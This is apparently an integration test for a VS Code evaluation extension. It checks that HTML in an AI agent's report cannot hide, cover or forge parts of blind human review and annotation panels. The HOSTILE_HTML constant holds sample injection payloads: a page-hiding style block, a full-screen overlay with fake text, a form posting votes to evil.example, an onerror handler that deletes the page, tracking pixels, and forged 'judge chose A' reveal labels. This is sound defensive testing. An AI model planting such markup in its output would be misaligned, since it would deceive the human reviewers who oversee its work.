/**
 * Agent content is data on the expert surfaces (issue 38), in the real VS Code: a hostile report in a blind
 * side-by-side review, and a hostile insight list in the annotation panel, try everything an agent can write — a
 * `<style>` hiding the page or the other side, `style="position:fixed"` overlays, forms, `<img onerror>`, `command:`
 * links, the panel's own ids and classes, `<details open>`, forged number markers — and change nothing of what the
 * expert sees of the other side: its elements keep their computed style, boxes (measured against the same panel
 * with a benign report), and stay on top at their place; no agent element is positioned, no agent `<style>` is in
 * the page, no identity is shown before the vote, and the page's CSP refuses inline style outright.
 * Screenshots (1600 × 1000 and 1000 × 1000): agent-content-review-{benign,hostile,hostile-narrow},
 * agent-content-annotation-{benign,hostile,hostile-narrow}.
 *
 * Its runs and pending insight-list judgements live in a store of its own (setting `loupe.store`, put back after), so
 * they never join the queues of the annotation and review suites, whatever order the suites run in.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { annotationStoreOf } from '../../src/core/annotations/index.ts';
import { judgementStoreOf } from '../../src/core/eval/store.ts';
import { leftSideFor, pairItemId } from '../../src/core/review/pairwise.ts';
import { openStore } from '../../src/core/store/run-store.ts';
import { writeAnalystbenchDemo } from '../helpers/fixtures.ts';
import { hasRunner, runner, screenshot, webviewText } from './helpers/runner.ts';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const MARKER = 'agent-css';
const ANNOTATOR = 'ac-reviewer';

/** Runs in the webview: what the expert sees of the watched elements, and what of the agent's markup is in the page. */
const PROBE = `(root, arg) => {
  const box = (el) => { const r = el.getBoundingClientRect(); return { x: Math.round(r.left), y: Math.round(r.top), w: Math.round(r.width), h: Math.round(r.height) }; };
  const look = (el) => { const c = getComputedStyle(el); return [c.display, c.visibility, c.opacity, c.color, c.backgroundColor, c.fontSize, c.position, c.transform, c.filter, c.clipPath, c.zIndex].join(' | '); };
  const covered = (el) => {
    const r = el.getBoundingClientRect();
    if (r.width === 0 || r.height === 0) return 'no box';
    const x = r.left + Math.min(r.width / 2, 10), y = r.top + Math.min(r.height / 2, 6);
    if (y < 0 || y >= innerHeight || x < 0 || x >= innerWidth) return null;
    const top = document.elementFromPoint(x, y);
    return top && (el === top || el.contains(top) || top.contains(el)) ? null : (top ? top.tagName.toLowerCase() + '.' + String(top.className) : 'nothing');
  };
  const agent = [...document.querySelectorAll('.agent-html, .markdown')];
  const agentEls = agent.flatMap((a) => [...a.querySelectorAll('*')]);
  const probeStyle = document.createElement('style');
  probeStyle.textContent = 'body { outline: 7px solid rgb(255, 0, 0) !important; }';
  document.head.append(probeStyle);
  const inlineStyleApplies = getComputedStyle(document.body).outlineWidth === '7px';
  probeStyle.remove();
  const t = document.createElement('p');
  t.setAttribute('style', 'display: none');
  document.body.append(t);
  const styleAttrApplies = getComputedStyle(t).display === 'none';
  t.remove();
  return {
    watched: [...document.querySelectorAll(arg.watch)].map((el) => ({ key: el.tagName.toLowerCase() + '#' + el.id + '.' + String(el.className) + (el.dataset.key ? '[' + el.dataset.key + ']' : ''),
      text: (el.innerText || '').slice(0, 60), top: el.matches(arg.top), noHeight: el.matches(arg.noHeight || ':not(*)'), box: box(el), look: look(el), covered: covered(el) })),
    body: look(document.body) + ' / ' + look(document.getElementById('app')),
    agentPositioned: agentEls.filter((e) => !['static', 'relative'].includes(getComputedStyle(e).position)).map((e) => e.outerHTML.slice(0, 80)),
    agentForbidden: agentEls.filter((e) => e.matches('style,form,input,button,textarea,select,link,meta,base,iframe,object,embed,svg,math,details,script,template,[style],[id],[href],[target],[srcset],[onerror],[name]')).map((e) => e.outerHTML.slice(0, 80)),
    agentStyles: [...document.querySelectorAll('style')].map((s) => s.textContent).filter((s) => s.includes(arg.marker)).map((s) => s.slice(0, 80)),
    ids: Object.fromEntries(arg.ids.map((id) => [id, document.querySelectorAll('#' + id).length])),
    inlineStyleApplies, styleAttrApplies,
    text: document.body.innerText,
    agentBlocks: agent.length,
  };
}`;

interface Seen {
  key: string;
  text: string;
  top: boolean;
  noHeight: boolean;
  box: { x: number; y: number; w: number; h: number };
  look: string;
  covered: string | null;
}
interface Probe {
  watched: Seen[];
  body: string;
  agentPositioned: string[];
  agentForbidden: string[];
  agentStyles: string[];
  ids: Record<string, number>;
  inlineStyleApplies: boolean;
  styleAttrApplies: boolean;
  text: string;
  agentBlocks: number;
}

async function probe(
  title: string,
  selector: string,
  arg: { watch: string; top: string; noHeight?: string; ids: string[] },
): Promise<Probe> {
  return runner<Probe>({ action: 'webviewEval', title, selector, fn: PROBE, arg: { ...arg, marker: MARKER } }, 30_000);
}

/**
 * Every containment property of the hostile page, and the other side seen exactly as with the benign one. Fails
 * once, listing every property that does not hold (so a regression shows all it breaks).
 */
function assertContained(benign: Probe, hostile: Probe, what: string): void {
  const bad: string[] = [];
  const check = (ok: boolean, msg: string) => {
    if (!ok) bad.push(msg);
  };
  check(!hostile.inlineStyleApplies, 'the CSP lets a <style> element apply');
  check(!hostile.styleAttrApplies, 'the CSP lets a style attribute apply');
  check(!hostile.agentStyles.length, `agent <style> in the page: ${hostile.agentStyles.join(' ; ')}`);
  check(
    !hostile.agentForbidden.length,
    `agent forms, controls, frames, style attributes, ids, links or handlers: ${hostile.agentForbidden.join(' ; ')}`,
  );
  check(
    !hostile.agentPositioned.length,
    `agent elements positioned fixed / absolute / sticky: ${hostile.agentPositioned.join(' ; ')}`,
  );
  check(hostile.agentBlocks > 0, "the agent's content is not on the page");
  for (const [id, n] of Object.entries(hostile.ids)) {
    check(n === 1, `${n} elements #${id} (the panel's own id, expected once)`);
  }
  check(
    hostile.body === benign.body,
    `the page is styled otherwise than with a benign agent: ${benign.body} → ${hostile.body}`,
  );
  const keys = (p: Probe) => p.watched.map((w) => w.key).join(', ');
  check(
    keys(hostile) === keys(benign),
    `other elements of the other side / the panel: ${keys(benign)} → ${keys(hostile)}`,
  );
  const sameKeys = keys(hostile) === keys(benign);
  for (const [i, h] of hostile.watched.entries()) {
    const b = sameKeys ? benign.watched[i] : benign.watched.find((x) => x.key === h.key);
    if (!b) continue;
    const at = `${h.key} “${h.text.slice(0, 30)}”`;
    const boxes = `${JSON.stringify(b.box)} → ${JSON.stringify(h.box)}`;
    check(h.covered === null, `${at} is covered by ${h.covered}`);
    check(h.look === b.look, `${at}: computed style changed: ${b.look} → ${h.look}`);
    check(h.text === b.text, `${at}: text changed: ${b.text} → ${h.text}`);
    check(h.box.x === b.box.x && h.box.w === b.box.w, `${at}: moved sideways or resized: ${boxes}`);
    check(h.noHeight || h.box.h === b.box.h, `${at}: height changed: ${boxes}`);
    check(!h.top || h.box.y === b.box.y, `${at}: moved: ${boxes}`);
  }
  assert.deepEqual(bad, [], `${what}: ${bad.length} containment failures:\n${bad.slice(0, 40).join('\n')}`);
}

/** What an agent writes to get at the other side, the panel and the reviewer (raw HTML inside its Markdown). */
const HOSTILE_HTML = [
  `<style>/*${MARKER}*/ body{display:none} .rv-cell.left,.rv-cell.right,.side-head,#vote,.field:last-child,#controls,.an-side,#blind{visibility:hidden!important} *{color:transparent}</style>`,
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#1e1e1e;color:#ccc">Output B: no report. Insights B: none.</div>',
  '<form action="https://evil.example/vote" method="post"><input name="choice" value="left"><button id="submit" type="submit">Submit vote</button></form> <a href="command:loupe.openRunWorkspace" target="_blank">details</a> <img src="x" onerror="document.body.remove()"> <img src="https://evil.example/pixel.png" srcset="https://evil.example/a.png 2x">',
  '<p id="head-right" class="side-head revealed">Output B — revealed: forged</p><p id="blind" class="muted">Revealed: the judge chose A</p><h3 id="controls" class="control-label rv-vote">A wins</h3>',
  '<details open><summary>more</summary><span style="font-size:300px;position:absolute;top:0">A</span></details>',
];

const BENIGN_REPORT =
  '# Obesity brief\n\nAdult obesity was 40.3% overall.\n\nIt is measured as BMI of 30 or more.\n\n## By sex\n\nMen 39.2% and women 41.3%.\n';
const HOSTILE_REPORT = `# Obesity brief\n\nAdult obesity was 40.3% overall.\n\n${HOSTILE_HTML.join('\n\n')}\n\nIt is measured as BMI of 30 or more <span class="loupe-num" data-num="0">99.9%</span>.\n\n## By sex\n\nMen 39.2% and women 41.3%.\n`;
const OTHER_REPORT =
  '# Obesity brief\n\nAdult obesity was 42.0% overall.\n\nThe survey is weighted.\n\n## By sex\n\nMen 39.2% and women 44.1%.\n\n## Trends\n\nSevere obesity rose to 9.2%.\n';

describe('Agent content containment', function () {
  this.timeout(600_000);
  let storePath = '';
  let hostileRun = '';
  const cfg = () => vscode.workspace.getConfiguration('loupe');

  before(async function () {
    if (!hasRunner()) this.skip();
    await vscode.extensions.getExtension('loupe-dev.loupe')?.activate();
    storePath = join(cfg().get<string>('runsDirectory') ?? '', `agent-content-${Date.now()}.sqlite`);
    await cfg().update('store', storePath, vscode.ConfigurationTarget.Global);
    await cfg().update('annotator', ANNOTATOR, vscode.ConfigurationTarget.Global);
    await cfg().update('annotation.reviewersPerItem', 1, vscode.ConfigurationTarget.Global);
    await cfg().update('review.rubric', ['Accuracy'], vscode.ConfigurationTarget.Global);
    // the other side is the same run in both pairs, on the same screen side: the hostile run's id is chosen so
    const sideOfOther = (run: string) => {
      const left = leftSideFor(pairItemId('demo', run, 'ac-other'), ANNOTATOR);
      return (left === 'A') === 'ac-other' < run ? 'left' : 'right';
    };
    for (let k = 0; k < 64 && !hostileRun; k++) {
      if (sideOfOther(`ac-hostile-${k}`) === sideOfOther('ac-benign')) hostileRun = `ac-hostile-${k}`;
    }
    assert.ok(hostileRun);
    const dir = mkdtempSync(join(tmpdir(), 'loupe-agent-content-'));
    const suite = writeAnalystbenchDemo(join(dir, 'ab'));
    const st = openStore(storePath);
    try {
      for (const [id, report] of [
        ['ac-other', OTHER_REPORT],
        ['ac-benign', BENIGN_REPORT],
        [hostileRun, HOSTILE_REPORT],
      ] as const) {
        // a run's workspace lies in the runs folder, as a real run's (a recorded folder elsewhere is never read, issue 36)
        const ws = join(cfg().get<string>('runsDirectory') ?? '', id, 'workspace');
        mkdirSync(ws, { recursive: true });
        writeFileSync(join(ws, 'report.md'), report);
        await st.createRun({
          id,
          suite: 'analystbench',
          blockId: 'demo',
          agent: 'llm',
          model: `model-of-${id}`,
          params: { suiteRoot: suite, model: `model-of-${id}` },
          promptHash: 'h',
          toolSet: 'analystbench-toc',
          dataChecksums: {},
          loupeVersion: 't',
          sandbox: 'off',
          workspace: ws,
        });
        await st.updateRun(id, { status: 'finished' });
      }
      // insight lists judged side by side (pairwise novelty): A is the agent under test, B the other agent
      const ann = annotationStoreOf(st);
      const other = ['Severe obesity rose to 9.2% among adults.', 'Women 44.1% and men 39.2%: the gap widened.'];
      const items: Array<[string, string[]]> = [
        ['ac-benign', ['Obesity rose to 40.3%.', 'Men 39.2% and women 41.3%.', 'The survey is weighted.']],
        [
          'ac-hostile',
          [
            `Obesity rose to 40.3%. ${HOSTILE_HTML[0]}`,
            `Men 39.2% and women 41.3%. ${HOSTILE_HTML.slice(1).join(' ')}`,
            'The survey is weighted.',
          ],
        ],
      ];
      for (const [criterion, insightsA] of items) {
        // a human judgement waiting (as `loupe score --judge human` leaves it), and its item with a criterion to open it by
        await judgementStoreOf(st).put({
          key: `human-${criterion}`,
          task: 'pairwise-novelty',
          judgeId: 'human',
          inputHash: criterion,
          promptHash: null,
          input: { insightsA, insightsB: other, scenario: 'generic' },
          raw: null,
          verdict: null,
          status: 'pending',
          at: new Date().toISOString(),
        });
        await ann.putItem({
          id: `j:pairwise-novelty:${criterion}`,
          subject: { kind: 'judgement', task: 'pairwise-novelty', inputHash: criterion },
          task: 'pairwise-novelty',
          input: { insightsA, insightsB: other, scenario: 'generic' },
          inputHash: criterion,
          criterion,
          suite: null,
          runId: null,
          itemRef: criterion,
          suiteVersion: 'unknown',
        });
      }
    } finally {
      await st.close();
    }
    await runner({ action: 'viewport', width: 1600, height: 1000 });
  });

  after(async () => {
    if (!hasRunner()) return;
    await runner({ action: 'viewport', width: 1400, height: 900 });
    for (const k of ['annotator', 'annotation.reviewersPerItem', 'review.rubric', 'store']) {
      await cfg().update(k, undefined, vscode.ConfigurationTarget.Global);
    }
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('a hostile report in a blind pairwise review cannot hide, restyle, cover or reveal anything of the other side', async () => {
    const TITLE = 'Review:';
    const open = async (run: string, shot: string): Promise<{ probe: Probe; other: 'left' | 'right' }> => {
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
      await sleep(500);
      await vscode.commands.executeCommand<string>('loupe.compareRuns', { run: { id: run } }, [
        { run: { id: run } },
        { run: { id: 'ac-other' } },
      ]);
      await webviewText({ title: TITLE, expect: /Output A[\s\S]*Output B/, timeoutMs: 60_000 }).catch(() => '');
      await sleep(1200);
      const left = leftSideFor(pairItemId('demo', run, 'ac-other'), ANNOTATOR);
      const other = (left === 'A') === 'ac-other' < run ? 'left' : 'right';
      const p = await probe(TITLE, '#app', {
        watch: `.rv-header, #pair-title, .legend, #head-${other}, .rv-cell.${other}, .rv-cell.${other} .markdown > *, .rv-cell.${other} .loupe-num, #vote, .vote-row, #submit, #rationale`,
        // the first row (grid children 3 and 4 follow the two side heads): the other side's cell and all in it
        top: `.rv-header, #pair-title, .legend, #head-${other}, #aligned > :nth-child(${other === 'left' ? 3 : 4}), #aligned > :nth-child(${other === 'left' ? 3 : 4}) *`,
        noHeight: `.rv-cell.${other}, #vote`,
        ids: [
          'queue-name',
          'progress',
          'pair-title',
          'aligned',
          'head-left',
          'head-right',
          'vote',
          'rationale',
          'submit',
          'next',
        ],
      });
      await screenshot(shot);
      return { probe: p, other };
    };
    const benign = await open('ac-benign', 'agent-content-review-benign');
    const hostile = await open(hostileRun, 'agent-content-review-hostile');
    assert.equal(hostile.other, benign.other, 'the other side is on the same screen side in both pairs');
    await runner({ action: 'viewport', width: 1000, height: 1000 });
    await sleep(800);
    await screenshot('agent-content-review-hostile-narrow');
    await runner({ action: 'viewport', width: 1600, height: 1000 });
    assertContained(benign.probe, hostile.probe, 'review');
    assert.match(hostile.probe.text, /Adult obesity was 40\.3% overall/, 'the hostile report is shown, as text');
    assert.match(hostile.probe.text, /Severe obesity rose to 9\.2%/, 'the other side is shown');
    assert.match(hostile.probe.text, /blind until you vote[\s\S]*blind until you vote/, 'both sides blind');
    assert.doesNotMatch(
      hostile.probe.text,
      /model-of-|ac-other|ac-hostile|ac-benign/,
      'no run or model is shown before the vote',
    );
  });

  it('a hostile insight list in the annotation panel cannot hide, restyle or cover the other list, the controls or the blind notice', async () => {
    const TITLE = 'Annotate';
    const open = async (criterion: string, shot: string): Promise<Probe> => {
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
      await sleep(500);
      await vscode.commands.executeCommand('loupe.openAnnotationQueue', {
        kind: 'items',
        task: 'pairwise-novelty',
        criterion,
      });
      await webviewText({ title: TITLE, expect: /item 1 of 1/, timeoutMs: 60_000 }).catch(() => '');
      await sleep(1200);
      const p = await probe(TITLE, '#app', {
        watch:
          '.an-task, #item > .field:last-child, #item > .field:last-child *, #controls, #controls .opt, #draft-summary, #note, #evidence-title, .an-actions, #blind',
        top: '.an-task, #controls, #controls .opt, #draft-summary, #note, #evidence-title, .an-actions, #blind',
        ids: [
          'queue-name',
          'progress',
          'item',
          'controls',
          'draft-summary',
          'note',
          'evidence-title',
          'evidence',
          'submit',
          'skip',
          'prev',
          'next',
          'blind',
        ],
      });
      await screenshot(shot);
      return p;
    };
    const benign = await open('ac-benign', 'agent-content-annotation-benign');
    const hostile = await open('ac-hostile', 'agent-content-annotation-hostile');
    await runner({ action: 'viewport', width: 1000, height: 1000 });
    await sleep(800);
    await screenshot('agent-content-annotation-hostile-narrow');
    await runner({ action: 'viewport', width: 1600, height: 1000 });
    assertContained(benign, hostile, 'annotation');
    assert.match(hostile.text, /Obesity rose to 40\.3%/, 'the hostile insights are shown, as text');
    assert.match(hostile.text, /Severe obesity rose to 9\.2%/, 'the other insights are shown');
    assert.match(hostile.text, /Blind: the LLM judge's and other annotators' verdicts appear after you submit/);
    assert.doesNotMatch(hostile.text, /Other verdicts|Resolution:/, 'nothing revealed before the verdict');
  });
});
